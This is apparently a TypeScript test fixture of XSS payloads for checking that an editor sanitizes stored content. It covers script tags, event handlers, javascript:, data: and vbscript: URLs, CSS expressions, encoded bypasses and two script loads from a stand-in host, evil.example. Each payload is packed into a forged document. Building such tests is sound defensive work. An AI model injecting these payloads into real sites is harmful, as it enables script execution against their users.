// Hostile input for the body's save path: script tags, event handlers, javascript: URLs, SVG, CSS expressions
// and encoded variants. Each payload goes into the body where an attacker could put it: as pasted HTML, as a
// link's address, as text, and as attributes of the editor's own nodes.

/** HTML a writer might paste (or a forged request might carry). `window.__xss` is set if any of it runs. */
export const HTML_PAYLOADS = [
  '<script>window.__xss=1</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror="window.__xss=1">',
  '<img src="javascript:window.__xss=1">',
  '<IMG SRC=JaVaScRiPt:window.__xss=1>',
  '<img src=`javascript:window.__xss=1`>',
  '<img """><script>window.__xss=1</script>">',
  '<img src=/ onerror=window.__xss=1>',
  '<svg onload="window.__xss=1">',
  '<svg><script>window.__xss=1</script></svg>',
  '<svg><animate onbegin="window.__xss=1" attributeName=x dur=1s>',
  '<math><mi xlink:href="javascript:window.__xss=1">x</mi></math>',
  '<body onload="window.__xss=1">',
  '<iframe src="javascript:window.__xss=1"></iframe>',
  '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
  '<object data="javascript:window.__xss=1"></object>',
  '<embed src="javascript:window.__xss=1">',
  '<a href="javascript:window.__xss=1">click</a>',
  '<a href="JAVASCRIPT:window.__xss=1">click</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;window.__xss=1">encoded</a>',
  '<a href="&#x6A;avascript:window.__xss=1">hex</a>',
  '<a href="jav&#x09;ascript:window.__xss=1">tab</a>',
  '<a href=" javascript:window.__xss=1">space</a>',
  '<a href="vbscript:msgbox(1)">vb</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==">data</a>',
  '<a href="#" onclick="window.__xss=1">handler</a>',
  '<a href="https://example.org" onmouseover="window.__xss=1">hover</a>',
  '<p style="background:url(javascript:window.__xss=1)">css url</p>',
  '<p style="width: expression(window.__xss=1)">css expression</p>',
  '<div style="behavior: url(x.htc)">behaviour</div>',
  '<style>@import "javascript:window.__xss=1";</style>',
  '<style>body{background:url("javascript:window.__xss=1")}</style>',
  '<link rel="stylesheet" href="javascript:window.__xss=1">',
  '<meta http-equiv="refresh" content="0;url=javascript:window.__xss=1">',
  '<base href="javascript:window.__xss=1//">',
  '<form action="javascript:window.__xss=1"><button>go</button></form>',
  '<button formaction="javascript:window.__xss=1">go</button>',
  '<input onfocus="window.__xss=1" autofocus>',
  '<details open ontoggle="window.__xss=1">',
  '<video><source onerror="window.__xss=1"></video>',
  '<audio src=x onerror="window.__xss=1">',
  '<marquee onstart="window.__xss=1">',
  '<table background="javascript:window.__xss=1">',
  '<div onpointerenter="window.__xss=1">pointer</div>',
  '<h2 onclick="window.__xss=1">heading</h2>',
  '<blockquote cite="javascript:window.__xss=1" onclick="window.__xss=1">quote</blockquote>',
  '<aside class="pull-quote" onclick="window.__xss=1"><p>pull</p></aside>',
  '<figure data-image-id="x" onclick="window.__xss=1"><img src="javascript:window.__xss=1"></figure>',
  '<div class="embed"><a href="javascript:window.__xss=1">embed</a></div>',
  '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>"></noscript>',
  '<xss onafterscriptexecute="window.__xss=1"><script>1</script>',
  '"><script>window.__xss=1</script>',
  '\'><img src=x onerror=window.__xss=1>',
  '<scr<script>ipt>window.__xss=1</scr</script>ipt>',
  '<%00script>window.__xss=1</script>',
  '&lt;script&gt;window.__xss=1&lt;/script&gt;',
];

/** Link addresses and node attributes forged into the stored document directly. */
export const HREF_PAYLOADS = [
  'javascript:window.__xss=1',
  ' JaVaScRiPt:window.__xss=1',
  'java\tscript:window.__xss=1',
  'data:text/html,<script>window.__xss=1</script>',
  'vbscript:msgbox(1)',
  '//evil.example/x',
  'javascript&colon;window.__xss=1',
];

/** A document the way a forged request could shape it: every payload as text, link and node attributes. */
export function hostileBodyDocument() {
  const content: unknown[] = [];
  for (const payload of HTML_PAYLOADS) content.push({ type: 'paragraph', content: [{ type: 'text', text: payload }] });
  for (const href of HREF_PAYLOADS) {
    content.push({ type: 'paragraph', content: [{ type: 'text', text: 'link', marks: [{ type: 'link', attrs: { href, onclick: 'x()' } }] }] });
    content.push({ type: 'embed', attrs: { url: href, provider: 'youtube' } });
  }
  content.push({ type: 'figure', attrs: { imageId: 'pic', src: 'javascript:window.__xss=1', alt: '"><script>1</script>', caption: '<img src=x onerror=1>' } });
  content.push({ type: 'script', content: [{ type: 'text', text: 'kept as words' }] });
  content.push({ type: 'paragraph', attrs: { onclick: 'x()', style: 'x' }, content: [{ type: 'text', text: 'ok' }] });
  return { type: 'doc', content };
}
